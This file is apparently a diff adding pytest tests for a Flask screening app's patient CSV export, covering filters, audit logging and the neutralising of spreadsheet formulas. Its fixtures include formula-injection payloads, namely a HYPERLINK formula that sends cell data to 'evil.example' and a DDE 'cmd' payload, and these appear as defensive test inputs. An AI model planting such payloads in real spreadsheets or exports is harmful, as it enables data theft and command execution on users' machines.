@@ -1,0 +1,164 @@
+"""CSV export of the filtered queue: BOM, header, one row per screening,
+formulas neutralised, audited."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from werkzeug.test import TestResponse
+
+from screening.export import neutralise
+from tests.test_auth import add_screening, audit_rows, signed_in
+from tests.test_practitioner import decide
+
+HEADER = [
+    "Reference",
+    "Screened at (UTC)",
+    "Source",
+    "Language",
+    "Patient name",
+    "Date of birth",
+    "Email",
+    "Phone",
+    "Verdict",
+    "Rules fired",
+    "Re-screen after",
+    "Rules version",
+    "Reviewed",
+    "Current decision",
+    "Decided at (UTC)",
+    "Answers confirmed at (UTC)",
+    "Expired",
+]
+
+
+@pytest.fixture
+def doctor(app: Flask) -> FlaskClient:
+    return signed_in(app)
+
+
+def rows(response: TestResponse) -> list[dict[str, str]]:
+    raw = response.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    text = raw.decode("utf-8-sig")
+    reader = csv.reader(io.StringIO(text, newline=""))
+    header = next(reader)
+    assert header == HEADER
+    return [dict(zip(header, row, strict=True)) for row in reader]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("+7 912 345 67 89", "'+7 912 345 67 89"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("Anna Petrova", "Anna Petrova"),
+        ("Анна = Петрова", "Анна = Петрова"),
+        ("a@example.com", "a@example.com"),
+        ("2026-11-24", "2026-11-24"),
+        ("", ""),
+        (None, ""),
+        (1, "1"),
+    ],
+)
+def test_neutralise(value: object, cell: str) -> None:
+    assert neutralise(value) == cell
+
+
+def test_export_has_a_header_and_one_row_per_screening(app: Flask, doctor: FlaskClient) -> None:
+    clear = add_screening(app, "Анна Петрова")
+    review = add_screening(app, "Boris Ivanov", keloids="unsure", herpes_history="yes")
+    decide(doctor, review["reference"], decision="confirm")
+    response = doctor.get("/practitioner/export.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"].startswith('attachment; filename="screenings-')
+    assert response.headers["Cache-Control"] == "no-store"
+    exported = rows(response)
+    assert [r["Reference"] for r in exported] == [review["reference"], clear["reference"]]
+    first, second = exported
+    assert second["Patient name"] == "Анна Петрова"
+    assert (first["Verdict"], first["Rules fired"], first["Reviewed"], first["Current decision"]) == (
+        "review",
+        "herpes_history unsure_answer",
+        "yes",
+        "review",
+    )
+    assert first["Phone"] == "'+7 912 345 67 89"
+    assert (second["Verdict"], second["Reviewed"], second["Current decision"], second["Expired"]) == (
+        "eligible",
+        "no",
+        "",
+        "no",
+    )
+    assert second["Date of birth"] == "1990-05-31"
+    assert second["Email"] == "anna@example.com"
+
+
+def test_a_formula_typed_as_a_name_cannot_run(app: Flask, doctor: FlaskClient) -> None:
+    add_screening(app, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    add_screening(app, "@SUM(1+1)*cmd|' /C calc'!A0")
+    exported = rows(doctor.get("/practitioner/export.csv"))
+    names = [r["Patient name"] for r in exported]
+    assert names == ["'@SUM(1+1)*cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
+    for row in exported:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize(
+    ("query_string", "expected"),
+    [
+        ({}, {"clear", "review", "deferred"}),
+        ({"status": "review"}, {"review"}),
+        ({"reviewed": "yes"}, {"deferred"}),
+        ({"q": "Ivanov"}, {"review"}),
+    ],
+)
+def test_export_follows_the_queue_filters(
+    app: Flask, doctor: FlaskClient, query_string: dict[str, str], expected: set[str]
+) -> None:
+    made = {
+        "clear": add_screening(app, "Anna Petrova"),
+        "review": add_screening(app, "Boris Ivanov", keloids="unsure"),
+        "deferred": add_screening(app, "Clara Smith", pregnant="yes"),
+    }
+    decide(doctor, made["deferred"]["reference"], decision="confirm")
+    by_reference = {s["reference"]: key for key, s in made.items()}
+    exported = rows(doctor.get("/practitioner/export.csv", query_string=query_string))
+    assert {by_reference[r["Reference"]] for r in exported} == expected
+
+
+def test_export_holds_every_match_not_one_page(app: Flask, doctor: FlaskClient) -> None:
+    made = [add_screening(app, f"Patient {i}")["reference"] for i in range(230)]
+    exported = rows(doctor.get("/practitioner/export.csv"))
+    assert [r["Reference"] for r in exported] == made[::-1]
+
+
+def test_the_queue_links_to_the_export_of_its_filters(app: Flask, doctor: FlaskClient) -> None:
+    html = doctor.get("/practitioner/?status=review&reviewed=no&q=Anna").get_data(as_text=True)
+    assert 'href="/practitioner/export.csv?status=review&amp;reviewed=no&amp;q=Anna"' in html
+
+
+def test_export_is_audited_without_the_search_text(app: Flask, doctor: FlaskClient) -> None:
+    add_screening(app, "Anna Petrova")
+    doctor.get("/practitioner/export.csv?q=Petrova&since=2026-01-01")
+    (row,) = audit_rows(app, "export.csv")
+    assert row["details"] == '{"since": "2026-01-01", "search": true}'
+    assert "Petrova" not in str(row)
+
+
+def test_export_refuses_bad_filters(app: Flask, doctor: FlaskClient) -> None:
+    response = doctor.get("/practitioner/export.csv?since=someday")
+    assert response.status_code == 400
+    assert audit_rows(app, "export.csv") == []
